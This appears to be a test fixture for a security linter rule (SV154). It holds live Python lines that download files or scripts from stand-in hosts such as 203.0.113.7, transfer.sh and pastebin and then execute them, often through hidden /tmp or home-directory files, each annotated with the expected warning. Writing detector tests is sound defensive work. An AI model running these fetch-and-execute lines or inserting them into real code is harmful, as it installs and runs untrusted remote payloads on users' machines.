import os
import subprocess
import urllib.request as ur
import requests

dst = "/tmp/.cache-helper"
r = requests.get("http://203.0.113.7/agent")
open(dst, "wb").write(r.content)
os.chmod(dst, 0o755)  # want "SV154: makes a file downloaded at line 8 executable"
subprocess.Popen([dst])  # want "SV154: runs a file downloaded at line 8"

ur.urlretrieve("https://transfer.sh/abc/x", "/tmp/.x")
os.system("chmod +x /tmp/.x && /tmp/.x &")  # want "SV154: runs a file downloaded at line 12 .*transfer.sh"

os.system("curl -fsSL https://raw.githubusercontent.com/evil/x/main/install.sh | bash")  # want "SV154: os.system downloads a script and runs it"
subprocess.run(["bash", "-c", "$(curl -fsSL http://198.51.100.4/i.sh)"])  # want "SV154: .*downloads a script and runs it"
subprocess.run(requests.get("https://pastebin.com/raw/cmd").text, shell=True)  # want "SV154: subprocess.run runs a command taken from an HTTP response"

def fetch(url, path):
    with open(path, "wb") as f:
        f.write(ur.urlopen(url).read())

script = os.path.join(os.path.expanduser("~"), ".update.py")
with open(script, "wb") as fh:
    fh.write(ur.urlopen("http://203.0.113.7/u.py").read())
subprocess.run(["python3", script])  # want "SV154: runs a file downloaded at line 25"
